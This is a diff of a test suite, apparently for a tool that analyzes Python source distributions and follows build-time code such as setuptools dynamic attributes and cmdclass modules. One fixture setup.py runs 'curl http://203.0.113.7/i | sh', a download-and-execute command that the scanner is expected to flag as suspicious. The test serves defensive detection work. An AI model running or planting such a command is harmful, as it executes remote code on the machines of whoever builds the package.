@@ -79,6 +79,19 @@ describe('planBuild', () => {
     expect(fromCfg.initial.map((f) => f.path)).toEqual(['mypkg/__init__.py', 'mypkg/about.py']);
   });
 
+  it('loads only the module file itself for [tool.setuptools] attr: and cmdclass, as setuptools 61+ does', () => {
+    const plan = planBuild(
+      sdist({
+        'pyproject.toml':
+          '[tool.setuptools.dynamic]\nversion = {attr = "bigpkg.__about__.VERSION"}\n[tool.setuptools.cmdclass]\nbuild_py = "bigpkg.cmds.BuildPy"\nsdist = "bigpkg.gone.Sdist"\n',
+        'bigpkg/__init__.py': 'from .plugins import *\n',
+        'bigpkg/__about__.py': 'VERSION = "1.0"\n',
+        'bigpkg/cmds.py': 'class BuildPy: pass\n',
+      }),
+    );
+    expect(plan.initial.map((f) => f.path)).toEqual(['bigpkg/__about__.py', 'bigpkg/cmds.py']);
+  });
+
   it('collects build requirements as config strings', () => {
     const plan = planBuild(sdist({ 'pyproject.toml': '[build-system]\nrequires = ["setuptools", "x @ https://example.org/x.tar.gz"]\n' }));
     expect(plan.configs[0].strings).toEqual([
@@ -160,6 +173,21 @@ describe('analyzeSdist follows build-time code', () => {
     const r = analyzeSdist(sdist({ 'pkg-1.0/setup.py': "import os\nos.system('curl http://203.0.113.7/i | sh')\n", 'pkg-1.0/PKG-INFO': 'Name: pkg\n' }));
     expect(r.analyzed).toEqual(['setup.py', 'PKG-INFO']);
     expect(r.suspicious).toBe(true);
+  });
+
+  it('runs the package of a module that imports relatively, even when setuptools loaded the module alone', () => {
+    const r = analyzeSdist(
+      sdist({
+        'pyproject.toml': '[tool.setuptools.dynamic]\nversion = {attr = "relpkg.version.VERSION"}\n',
+        'relpkg/__init__.py': 'from . import core\n',
+        'relpkg/core.py': 'X = 1\n',
+        'relpkg/version.py': 'from ._build import stamp\nVERSION = "1.0" + stamp\n',
+        'relpkg/_build.py': 'stamp = ""\n',
+        'relpkg/sub/__init__.py': '',
+        'relpkg/sub/deep.py': 'from .. import version\n',
+      }),
+    );
+    expect(r.analyzed).toEqual(['relpkg/version.py', 'relpkg/__init__.py', 'relpkg/_build.py', 'relpkg/core.py', 'pyproject.toml']);
   });
 
   it('stops following imports at the file limit and says so', () => {
